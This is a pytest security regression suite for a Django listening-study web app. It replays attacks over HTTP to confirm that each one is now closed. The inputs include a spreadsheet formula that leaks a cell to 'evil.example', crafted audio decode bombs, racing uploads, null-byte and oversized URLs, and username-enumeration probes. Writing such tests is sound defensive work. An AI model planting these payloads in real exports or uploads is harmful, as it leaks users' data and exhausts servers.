"""The outside attack of issue 14, kept: every case against a production-like deployment.

gunicorn (2 workers x 2 threads), DEBUG off, the database task backend with
``manage.py db_worker``, on the suite's database (SQLite, or a PostgreSQL server of its
own when DATABASE_URL names PostgreSQL). Each test replays one finding over real HTTP
and checks it is closed: researcher rights, decode bombs, racing uploads, formulas in
exports, resuming by Prolific id, unchecked settings, username enumeration, malformed
URLs and caching, and a worker killed in the middle of preparing a track.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile as sf
from scipy.signal import lfilter

from tests import crafted_audio as crafted
from tests.listening.stimuli.test_security_uploads import BOUNDARY, multipart
from tests.live.deployment import REPO, SUITE_ON_POSTGRES, Deployment, postgres_available
from tests.live.participant_http import Browser, Reply, form_of

pytestmark = pytest.mark.slow

RESEARCHER = ("researcher", "live-deployment")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
    if SUITE_ON_POSTGRES and not postgres_available():
        pytest.skip("PostgreSQL server binaries are not installed")
    deployment = Deployment(
        tmp_path_factory.mktemp("security"),
        postgres=SUITE_ON_POSTGRES,
        TASKS_BACKEND="database",
        LISTENING_SESSION_STARTS_PER_HOUR="100000",
        LISTENING_WORKER_STALE_SECONDS="30",
    )
    try:
        deployment.prepare(tracks=5, seconds=12, screening=False)
        deployment.query(
            "from django.contrib.auth.models import User\n"
            "from django_tasks_db.models import DBTaskResult\n"
            "User.objects.create_user('member', password='member-password-1')\n"
            "User.objects.create_user('staff-only', password='staff-password-1', is_staff=True)\n"
            "DBTaskResult.objects.all().delete()  # the demo's metrics: not needed here\n"
            "result = True\n"
        )
        deployment.start_server(workers=2, threads=2)
        yield deployment
    finally:
        deployment.close()


def basic(user: tuple[str, str]) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(":".join(user).encode()).decode()}


def api(
    live: Deployment,
    method: str,
    path: str,
    payload: Any = None,
    user: tuple[str, str] = RESEARCHER,
) -> Reply:
    browser = Browser(live.port)
    try:
        headers = {**basic(user), "Accept": "application/json"}
        body = None
        if payload is not None:
            body = json.dumps(payload).encode()
            headers["Content-Type"] = "application/json"
        return browser.request(method, path, body, headers)
    finally:
        browser.close()


def upload(live: Deployment, track: int, name: str, data: bytes, **fields: str) -> Reply:
    browser = Browser(live.port, timeout=120)
    try:
        body = multipart({"track": str(track), "role": "mix", **fields}, name, data)
        headers = {
            **basic(RESEARCHER),
            "Accept": "application/json",
            "Content-Type": f"multipart/form-data; boundary={BOUNDARY}",
        }
        return browser.request("POST", "/api/stimuli/", body, headers)
    finally:
        browser.close()


def draft_study(live: Deployment, title: str, tracks: int = 2) -> tuple[int, list[int]]:
    study = api(
        live, "POST", "/api/studies/", {"title": title, "excerpt_start": 0, "excerpt_length": 2}
    )
    assert study.status == 201, study.body[:300]
    pk = study.json()["id"]
    ids = []
    for i in range(tracks):
        track = api(live, "POST", "/api/tracks/", {"study": pk, "title": f"{title} {i}"})
        assert track.status == 201, track.body[:300]
        ids.append(track.json()["id"])
    return pk, ids


def noise_wav(seed: int, seconds: float = 3.0) -> bytes:
    audio = np.random.default_rng(seed).uniform(-0.3, 0.3, (int(44100 * seconds), 2))
    buffer = io.BytesIO()
    sf.write(buffer, audio, 44100, format="WAV", subtype="PCM_16")
    return buffer.getvalue()


def assert_error_shape(reply: Reply, status: int) -> dict[str, Any]:
    assert reply.status == status, reply.body[:500]
    assert reply.headers["content-type"] == "application/json"
    data: dict[str, Any] = reply.json()
    assert {"detail", "code"} <= set(data)
    return data


def private(reply: Reply) -> bool:
    directives = {d.strip() for d in reply.headers.get("cache-control", "").split(",")}
    return {"private", "no-store"} <= directives


# -- 1. researcher rights ---------------------------------------------------------------------


def test_accounts_without_researcher_rights_cannot_use_the_api(live: Deployment) -> None:
    for user in (("member", "member-password-1"), ("staff-only", "staff-password-1")):
        created = api(live, "POST", "/api/studies/", {"title": "Mine"}, user=user)
        assert assert_error_shape(created, 403)["code"] == "permission_denied"
        assert api(live, "GET", "/api/studies/", user=user).status == 403
    assert api(live, "GET", "/api/studies/").status == 200
    assert live.query(
        "from listening.models import Study\nresult = Study.objects.filter(title='Mine').count()"
    ) == 0


# -- 2. decode bombs --------------------------------------------------------------------------


def test_decode_bombs_get_a_json_400_and_nothing_is_stored(live: Deployment) -> None:
    _, (track, _) = draft_study(live, "Bombs")
    bombs = {
        "bomb.flac": (crafted.flac(rate=655_350, frames=1790 * 655_350), "AUDIO_MAX_SAMPLE_RATE"),
        "long.ogg": (crafted.ogg(frames=2**40), "AUDIO_MAX_SECONDS"),
        "wide.wav": (crafted.wav(channels=64), "64 channels"),
        "nolength.flac": (crafted.flac(frames=0), "does not state its length"),
        "cut.flac": (crafted.flac()[:5000], "cut.flac:"),
    }
    for name, (data, fragment) in bombs.items():
        reply = upload(live, track, name, data)
        detail = assert_error_shape(reply, 400)["detail"]
        assert fragment in detail, (name, detail)
    stored = live.query(
        f"from listening.models import Stimulus\n"
        f"result = Stimulus.objects.filter(track_id={track}).count()"
    )
    assert stored == 0


# -- 5. racing uploads ---------------------------------------------------------------------------


def test_racing_uploads_store_each_file_once(live: Deployment) -> None:
    _, (first, second) = draft_study(live, "Races")
    outcomes = []
    for round_ in range(6):
        data = noise_wav(100 + round_)
        # Even rounds: the same file to two tracks; odd rounds: twice to one track.
        targets = (first, second) if round_ % 2 == 0 else (first, first)
        barrier = threading.Barrier(2)
        replies: list[Reply] = []

        def send(
            track: int,
            data: bytes = data,
            barrier: threading.Barrier = barrier,
            replies: list[Reply] = replies,
        ) -> None:
            barrier.wait()
            replies.append(
                upload(live, track, "same.wav", data, role="master", system="ai", provider="X")
            )

        threads = [threading.Thread(target=send, args=(t,)) for t in targets]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(120)
        assert sorted(r.status for r in replies) == [201, 400], [r.body[:300] for r in replies]
        lost = next(r for r in replies if r.status == 400)
        data_ = assert_error_shape(lost, 400)
        assert data_["code"] == "invalid"
        assert list(data_["errors"]) == ["file"]
        assert "is already in this study as" in data_["errors"]["file"][0]
        outcomes.append(data_["errors"]["file"][0])
    counts = live.query(
        "from collections import Counter\n"
        "from listening.models import Stimulus\n"
        "shas = Stimulus.objects.filter(track__study__title='Races')"
        ".values_list('original_sha256', flat=True)\n"
        "result = sorted(Counter(shas).values())\n"
    )
    assert counts == [1] * 6
    originals = Path(live.env["DJANGO_MEDIA_ROOT"]) / "originals"
    rows = live.query(
        "from listening.models import Stimulus\n"
        "result = sorted(s.original.name.split('/')[-1]"
        " for s in Stimulus.objects.exclude(original=''))\n"
    )
    assert sorted(p.name for p in originals.iterdir()) == rows  # losers' copies removed


# -- 4. formulas in exports -------------------------------------------------------------------


def test_exports_neutralise_formulas_and_are_private(live: Deployment) -> None:
    pk = live.query(
        "from listening.models import Study, Track\n"
        "study = Study.objects.get(is_demo=True)\n"
        f"Track.objects.filter(pk=study.tracks.first().pk).update(title={FORMULA!r})\n"
        "result = study.pk\n"
    )
    reply = api(live, "GET", f"/api/studies/{pk}/exports/stimuli.csv")
    assert reply.status == 200
    assert private(reply)
    rows = list(csv.reader(io.StringIO(reply.body.decode(), newline="")))
    tracks = {row[rows[0].index("track")] for row in rows[1:]}
    assert "'" + FORMULA in tracks
    assert FORMULA not in tracks
    raw = api(live, "GET", f"/api/studies/{pk}/exports/stimuli.jsonl")
    assert FORMULA in {json.loads(line)["track"] for line in raw.body.decode().splitlines()}


# -- 6. resuming by Prolific id ---------------------------------------------------------------


def test_a_prolific_id_alone_opens_nobody_s_session(live: Deployment) -> None:
    ids = "?PROLIFIC_PID=pid-live-1&STUDY_ID=st&SESSION_ID=sess-live-1"
    owner = Browser(live.port)
    page = owner.get(live.landing + ids)
    started = owner.post_form(live.landing + ids, form_of(page.body))
    assert started.status == 302
    token = started.headers["location"].split("/")[2]
    stranger = Browser(live.port)
    form = form_of(stranger.get(live.landing).body)  # the study's page: a CSRF token
    for reply in (
        stranger.get(live.landing + "?PROLIFIC_PID=pid-live-1"),
        stranger.post_form(live.landing + "?PROLIFIC_PID=pid-live-1", form),
        stranger.post_form(live.landing + "?PROLIFIC_PID=pid-live-1&SESSION_ID=guess", form),
    ):
        assert reply.status == 409, reply.status
        assert b"already started this study in another browser" in reply.body
        assert token.encode() not in reply.body
        assert "listening_session" not in stranger.cookies
    back = Browser(live.port)  # another browser, back from Prolific with the same ids
    page = back.get(live.landing + ids)
    assert page.status == 200
    resumed = back.post_form(live.landing + ids, form_of(page.body))
    assert resumed.headers["location"].split("/")[2] == token
    mine = owner.get(live.landing + "?PROLIFIC_PID=pid-live-1")
    assert b"Continue where you left off" in mine.body  # the same browser
    again = owner.post_form(live.landing + "?PROLIFIC_PID=pid-live-1", form_of(mine.body))
    assert again.headers["location"].split("/")[2] == token
    for browser in (owner, stranger, back):
        browser.close()


# -- 7. settings ------------------------------------------------------------------------------


def test_bad_settings_are_refused_with_their_reason(live: Deployment) -> None:
    pk, _ = draft_study(live, "Settings", tracks=0)
    for payload, fragment in (
        ({"questionnaire": [{"name": "age", "type": "integer", "min": "abc"}]}, "min: A valid"),
        ({"screening": {"tests": ["antiphase"], "trials_per_test": 10**9}}, "trials_per_test"),
        ({"trials_per_participant": 10**9}, "trials_per_participant"),
    ):
        reply = api(live, "PATCH", f"/api/studies/{pk}/", payload)
        assert fragment in assert_error_shape(reply, 400)["detail"]


# -- 8. username enumeration ------------------------------------------------------------------


def test_collaborator_names_tell_nothing_about_accounts(live: Deployment) -> None:
    pk, _ = draft_study(live, "Sharing", tracks=0)
    answers = []
    for name in ("nosuchuser", "member", "staff-only"):
        reply = api(live, "PATCH", f"/api/studies/{pk}/", {"collaborators": [name]})
        answers.append(assert_error_shape(reply, 400)["errors"]["collaborators"][0])
    assert answers == [f"No researcher account {n!r} can be added." for n in
                       ("nosuchuser", "member", "staff-only")]  # fmt: skip


# -- 9. malformed URLs and caching ------------------------------------------------------------


def test_malformed_urls_never_fail_and_pages_are_private(live: Deployment) -> None:
    admin = Browser(live.port)
    login = admin.get("/admin/login/")
    fields = {**form_of(login.body), "username": RESEARCHER[0], "password": RESEARCHER[1]}
    assert admin.post_form("/admin/login/", fields).status == 302
    task_type, study = live.query(
        "from django.contrib.contenttypes.models import ContentType\n"
        "from django_tasks_db.models import DBTaskResult\n"
        "from listening.models import Study\n"
        "result = [ContentType.objects.get_for_model(DBTaskResult).pk,"
        " Study.objects.get(is_demo=True).pk]\n"
    )
    anonymous = Browser(live.port)
    malformed = [
        f"/admin/r/{task_type}/2/",
        f"/admin/r/{task_type}/not-a-uuid/",
        "/admin/listening/study/99999999999999999999999/change/",
        "/admin/listening/study/%00/change/",
        "/api/studies/99999999999999999999999/",
        "/api/studies/-1/",
        "/api/stimuli/?track=abc",
        "/api/tracks/?study=9" + "9" * 30,
        "/studies/99999999999999999999999/results/",
        "/p/%ff%fe/trial",
        "/a/" + "x" * 3000,
        "/s/%00/",
    ]
    for browser in (admin, anonymous):
        for path in malformed:
            reply = browser.get(path)
            assert reply.status < 500, (path, reply.status)
            assert private(reply), path
    for path in (
        f"/studies/{study}/results/",
        f"/studies/{study}/results/ratings.csv",
        f"/studies/{study}/results/bundle.zip",
        f"/admin/listening/study/{study}/change/",
    ):
        reply = admin.get(path)
        assert reply.status == 200, path
        assert private(reply), path
    landing = anonymous.get(live.landing)
    assert landing.status == 200
    assert private(landing)
    for browser in (admin, anonymous):
        browser.close()


# -- 10. a worker killed in the middle of a task ----------------------------------------------


def long_track(folder: Path, seconds: float = 180.0) -> None:
    """A mix and two masters long enough that preparing them takes seconds (seeded)."""
    rate = 44100
    n = int(seconds * rate)
    noise = np.random.default_rng(11).standard_normal((n, 2))
    mix = lfilter([0.2], [1, -0.8], noise, axis=0)
    swell = 0.5 + 0.4 * np.sin(2 * np.pi * np.arange(n) / rate / 7.0)[:, None]
    mix = 0.25 * mix * swell / np.max(np.abs(mix))
    masters = {
        "ai": lfilter([1.2, -0.3], [1.0], mix, axis=0),
        "human": np.concatenate([np.zeros((int(0.1 * rate), 2)), 0.9 * mix])[:n],
    }
    folder.mkdir()
    for name, audio in {"mix": mix, **masters}.items():
        sf.write(folder / f"{name}.flac", np.clip(audio, -1, 1), rate, subtype="PCM_16")
    (folder / "manifest.csv").write_text(
        "track,genre,file,role,system,provider\nLong,pop,mix.flac,mix,,\n"
        "Long,pop,ai.flac,master,ai,AI\nLong,pop,human.flac,master,human,Engineer\n"
    )


def worker(live: Deployment, *options: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "manage.py", "db_worker", "--no-reload", "--no-startup-delay",
         "--interval", "0.2", *options],
        cwd=REPO, env=live.env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip


def stimulus_states(live: Deployment, title: str) -> list[str]:
    """The track's stimuli's states, read straight from the database (no Django start-up)."""
    query = (
        "SELECT s.status FROM listening_stimulus s JOIN listening_track t ON s.track_id = t.id "
        "WHERE t.title = %s"
    )
    url = live.env["DATABASE_URL"]
    if url.startswith("sqlite"):
        with sqlite3.connect(url.removeprefix("sqlite:///")) as db:
            return [row[0] for row in db.execute(query.replace("%s", "?"), (title,))]
    import psycopg

    with psycopg.connect(url) as db:
        return [row[0] for row in db.execute(query, (title,))]


STATE = (
    "from django_tasks_db.models import DBTaskResult\n"
    "from listening.models import Stimulus\n"
    "task = DBTaskResult.objects.filter(task_path__endswith='prepare_track_task').get()\n"
    "result = {'task': task.status, 'workers': len(task.worker_ids), 'stimuli': sorted("
    "Stimulus.objects.filter(track__title='Long').values_list('status', flat=True))}\n"
)


def test_a_worker_killed_mid_preparation_is_recovered_by_the_next(
    live: Deployment, tmp_path: Path
) -> None:
    long_track(tmp_path / "long")
    live.manage(
        "import_study", str(tmp_path / "long"), "--owner", "researcher", "--title", "Long",
        "--excerpt-start", "30", "--excerpt-length", "10", "--verbosity", "0",
    )  # fmt: skip
    # Only this track's preparation is queued (the other tests' uploads queued theirs).
    live.query(
        "from django_tasks_db.models import DBTaskResult\n"
        "from listening.models import Track\n"
        "track = Track.objects.get(title='Long')\n"
        "DBTaskResult.objects.exclude(args_kwargs__args=[track.pk, False]).delete()\n"
        "result = DBTaskResult.objects.count()\n"
    )
    first = worker(live)
    assert first.stdout is not None
    try:
        for line in first.stdout:  # wait until it runs the preparation
            if "prepare_track_task state=RUNNING" in line:
                break
        else:
            pytest.fail("the worker never started the preparation")
        deadline = time.monotonic() + 60
        while "processing" not in stimulus_states(live, "Long"):  # mid-preparation
            assert time.monotonic() < deadline, "the preparation never started"
            time.sleep(0.05)
        os.kill(first.pid, signal.SIGKILL)
    finally:
        first.kill()
        first.wait(30)
    state = live.query(STATE)
    # What the attack saw: the task RUNNING for ever, its stimuli "processing".
    assert state["task"] == "RUNNING", state
    assert set(state["stimuli"]) == {"processing"}, state
    second = worker(live, "--batch")
    output, _ = second.communicate(timeout=300)
    assert second.returncode == 0, output[-2000:]
    assert "queued again" in output, output[-2000:]
    state = live.query(STATE)
    assert state["task"] == "SUCCESSFUL", state
    assert state["workers"] == 2
    assert state["stimuli"] == ["ready"] * 5, state  # mix, two masters, two anchors
    gone = live.query(
        "from listening.models import TaskWorker\nresult = TaskWorker.objects.count()\n"
    )
    assert gone == 0
